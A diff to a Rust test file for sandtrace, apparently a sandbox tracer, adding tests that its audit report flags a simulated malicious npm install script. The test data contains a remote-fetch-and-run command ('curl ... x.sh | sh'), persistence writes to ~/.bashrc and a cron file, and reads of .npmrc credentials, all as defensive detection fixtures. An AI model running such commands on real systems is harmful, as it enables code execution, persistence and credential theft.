@@ -6,7 +6,10 @@
 //! directories and exiting 3, traced on the host), `enforce.jsonl` (the same kind of shell
 //! under an enforced policy in the BPF-LSM VM: a deny-rule denial, unlisted-path denials, a
 //! syscall refused by seccomp and a refused TCP connect), and `truncated.jsonl` (trace_only.jsonl cut in the middle of
-//! a line, as a killed sandtrace leaves it: no summary line).
+//! a line, as a killed sandtrace leaves it: no summary line). `auditor.jsonl` is written by
+//! hand: an `npm install` whose install script starts a shell and curl, writes `~/.bashrc`
+//! and `/etc/cron.d/x`, is denied `~/.npmrc`, leaves a process behind, reaches two
+//! destinations from two processes; composer's exec of dash is denied.
 
 mod common;
 
@@ -80,6 +83,11 @@ fn trace_only_log() {
 #[test]
 fn enforced_log_with_denials() {
     golden("enforce");
+}
+
+#[test]
+fn auditor_log() {
+    golden("auditor");
 }
 
 #[test]
@@ -195,5 +203,172 @@ fn a_report_says_who_the_command_ran_as() {
         json["run"]["run_as"]["capabilities"],
         serde_json::json!([]),
         "{json}"
+    );
+}
+
+/// The text of section `title` (from its heading to the next blank line).
+fn section<'a>(text: &'a str, title: &str) -> &'a str {
+    let start = text
+        .find(&format!("\n{title}"))
+        .unwrap_or_else(|| panic!("no section {title:?} in:\n{text}"));
+    let rest = &text[start + 1..];
+    &rest[..rest.find("\n\n").unwrap_or(rest.len())]
+}
+
+#[test]
+fn auditor_report_lists_what_is_worth_a_look() {
+    let text = report("auditor", &[]);
+    let script = "101 sh -c 'node install.js; curl -fsSL https://cdn.example.net/x.sh | sh'";
+    let worth = section(&text, "worth a look (7)");
+    for expected in [
+        format!("  shell started: {script} (by 100 npm install)\n"),
+        format!(
+            "  downloader started: 102 curl -fsSL https://cdn.example.net/x.sh (by {script}, \
+             under 100 npm install)\n"
+        ),
+        format!("  write to cron: /etc/cron.d/x by {script}\n"),
+        format!("  write to shell start-up file: /home/dev/.bashrc by {script}\n"),
+        "  read of a credential-looking file: ./.env.local by 100 npm install\n".to_owned(),
+        "  denied read of a credential-looking file: /home/dev/.npmrc by 102 curl -fsSL \
+         https://cdn.example.net/x.sh\n"
+            .to_owned(),
+        "  still running after CMD exited, killed at the end: 103 sleep 1000".to_owned(),
+    ] {
+        assert!(worth.contains(&expected), "no {expected:?} in:\n{worth}");
+    }
+    // 56 reads by npm: the credential-looking one first, then ten, then the count of the rest.
+    let reads = section(&text, "files (");
+    for expected in [
+        "  read (57 files, by 2 processes)\n    100 npm install (56)\n      ./.env.local  \
+         (credential-looking)\n      /usr/lib/node_modules/npm/lib/module00.js\n",
+        "      … and 45 more (--format json lists them all)\n    102 curl",
+    ] {
+        assert!(reads.contains(expected), "no {expected:?} in:\n{reads}");
+    }
+    let outside = section(
+        &text,
+        "writes outside the directory CMD started in, /home/dev/proj (3)",
+    );
+    for expected in [
+        format!("  /etc/cron.d/x  by {script}\n"),
+        format!("  /home/dev/.bashrc  by {script}\n"),
+        "  /tmp: 1 file (temporary; --format json lists them)".to_owned(),
+    ] {
+        assert!(
+            outside.contains(&expected),
+            "no {expected:?} in:\n{outside}"
+        );
+    }
+    assert!(!outside.contains("left-pad"), "{outside}");
+    let network = section(&text, "network");
+    for expected in [
+        "    registry.npmjs.org:443 tcp (104.16.1.34, 104.16.2.34): 3×, 1 denied, by 100 npm \
+         install; 102 curl -fsSL https://cdn.example.net/x.sh\n",
+        // Named from the resolver's answer: the network line has no host.
+        "    cdn.example.net:443 tcp (93.184.216.34): 1×, by 102 curl",
+        "    answered: registry.npmjs.org, cdn.example.net\n",
+    ] {
+        assert!(network.contains(expected), "no {expected:?} in:\n{network}");
+    }
+    let denials = section(&text, "denials (");
+    assert!(
+        denials.contains(
+            "  exec /usr/bin/dash: denied: no allow rule covers it; 1× (first by php, pid 104, \
+             running php composer.phar install)"
+        ),
+        "{denials}"
+    );
+    assert!(!denials.contains("exec exec"), "{denials}");
+}
+
+#[test]
+fn auditor_report_json_carries_the_same() {
+    let json: serde_json::Value =
+        serde_json::from_str(&report("auditor", &["--format", "json"])).unwrap();
+    assert_eq!(json["run"]["start_dir"], "/home/dev/proj", "{json}");
+    let worth = json["worth_a_look"].as_array().unwrap();
+    let kinds: Vec<&str> = worth.iter().map(|w| w["kind"].as_str().unwrap()).collect();
+    assert_eq!(
+        kinds,
+        [
+            "program_started",
+            "program_started",
+            "persistence_write",
+            "persistence_write",
+            "credential_read",
+            "credential_read",
+            "killed_at_end"
+        ],
+        "{json:#}"
+    );
+    assert_eq!(worth[1]["program_kind"], "downloader");
+    assert_eq!(worth[1]["process"]["pid"], 102);
+    assert_eq!(worth[1]["started_by"]["pid"], 101);
+    assert_eq!(worth[1]["under_package_manager"]["command"], "npm install");
+    assert_eq!(worth[3]["path"], "/home/dev/.bashrc");
+    assert_eq!(worth[3]["place"], "shell start-up file");
+    assert_eq!(worth[5]["path"], "/home/dev/.npmrc");
+    assert_eq!(worth[5]["denied"], true);
+    assert_eq!(worth[5]["processes"][0]["pid"], 102);
+    assert_eq!(worth[6]["process"]["command"], "sleep 1000");
+    let outside = json["writes_outside_start_dir"].as_array().unwrap();
+    assert_eq!(outside.len(), 3, "{json:#}");
+    assert_eq!(outside[2]["path"], "/tmp/npm-100/cache.json");
+    assert_eq!(outside[2]["temporary"], true);
+    let destinations = json["destinations"].as_array().unwrap();
+    assert_eq!(destinations[0]["host"], "registry.npmjs.org");
+    assert_eq!(
+        destinations[0]["addresses"],
+        serde_json::json!(["104.16.1.34", "104.16.2.34"])
+    );
+    assert_eq!(destinations[0]["denied"], 1);
+    assert_eq!(destinations[0]["processes"].as_array().unwrap().len(), 2);
+    let env_local = json["files"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["path"] == "./.env.local")
+        .unwrap();
+    assert_eq!(env_local["read_by"], serde_json::json!([100]));
+    let dash = json["denials"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|d| d["what"] == "exec /usr/bin/dash")
+        .unwrap();
+    assert_eq!(dash["command"], "php composer.phar install");
+}
+
+/// On a real run: a credential-looking file read by a shell CMD started is worth a look.
+#[test]
+fn a_recorded_credential_read_is_worth_a_look() {
+    const TEST: &str = "a_recorded_credential_read_is_worth_a_look";
+    if !nix::unistd::Uid::effective().is_root() {
+        return skip(TEST, "sandtrace run needs root", InCi::Guaranteed);
+    }
+    let scratch = Scratch::new("report-credential-read");
+    let npmrc = scratch.path(".npmrc");
+    fs::write(&npmrc, "//registry.npmjs.org/:_authToken=x\n").unwrap();
+    let log = scratch.path("events.jsonl");
+    let script = format!("cat {} > /dev/null; ls", npmrc.display());
+    let out = sandtrace()
+        .args(["run", "--trace-only", "-o", log.to_str().unwrap(), "--"])
+        .args(["sh", "-c", &script])
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", describe(&out));
+    let out = run(&["report", log.to_str().unwrap()]);
+    assert!(out.status.success(), "{}", describe(&out));
+    let text = String::from_utf8(out.stdout).unwrap();
+    let worth = section(&text, "worth a look");
+    let expected = format!(
+        "  read of a credential-looking file: {} by ",
+        npmrc.display()
+    );
+    assert!(worth.contains(&expected), "no {expected:?} in:\n{text}");
+    assert!(
+        worth.contains(&format!("cat {}", npmrc.display())),
+        "{text}"
     );
 }
